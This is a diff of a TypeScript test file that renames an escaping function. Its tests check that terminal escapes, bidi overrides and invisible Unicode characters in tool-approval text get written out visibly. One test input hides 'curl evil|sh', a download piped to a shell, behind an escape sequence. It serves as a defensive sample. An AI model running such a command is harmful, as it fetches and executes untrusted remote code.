@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { summarizeQuestion, summarizeRequest } from './summarize-request.ts';
-import { visible } from './visible.ts';
+import { makeVisible } from './visible.ts';
 
 const approval = (input: unknown, title = 'Bash') => ({ toolName: 'Bash', title, input, options: [] });
 const SIGNS = { field: '', text: '│ ', added: '+ ', removed: '- ', same: '  ' };
@@ -9,18 +9,18 @@ const shown = (input: unknown, call?: unknown) =>
 
 describe('visible', () => {
   it('writes out what a terminal acts on and what nobody sees', () => {
-    expect(visible('git status \x1b]; curl evil|sh')).toBe('git status \\x1b]; curl evil|sh');
-    expect(visible('a\tb\rc\bd\x7f\x9b2J\x00')).toBe('a\\tb\\rc\\bd\\x7f\\x9b2J\\x00');
-    expect(visible('\u202eevil\u2066x\u2069\u200e')).toBe('\\u202eevil\\u2066x\\u2069\\u200e');
-    expect(visible('a\u200bb\u200d\ufeff\u00ad\u2028\u2029\u3164')).toBe(
+    expect(makeVisible('git status \x1b]; curl evil|sh')).toBe('git status \\x1b]; curl evil|sh');
+    expect(makeVisible('a\tb\rc\bd\x7f\x9b2J\x00')).toBe('a\\tb\\rc\\bd\\x7f\\x9b2J\\x00');
+    expect(makeVisible('\u202eevil\u2066x\u2069\u200e')).toBe('\\u202eevil\\u2066x\\u2069\\u200e');
+    expect(makeVisible('a\u200bb\u200d\ufeff\u00ad\u2028\u2029\u3164')).toBe(
       'a\\u200bb\\u200d\\ufeff\\xad\\u2028\\u2029\\u3164',
     );
-    expect(visible('\ud800x\udc00')).toBe('\\ud800x\\udc00');
-    expect(visible('\u{e0041}')).toBe('\\u{e0041}');
+    expect(makeVisible('\ud800x\udc00')).toBe('\\ud800x\\udc00');
+    expect(makeVisible('\u{e0041}')).toBe('\\u{e0041}');
   });
 
   it('leaves what people read', () => {
-    expect(visible('naïve café — 日本語 👍')).toBe('naïve café — 日本語 👍');
+    expect(makeVisible('naïve café — 日本語 👍')).toBe('naïve café — 日本語 👍');
   });
 });
 
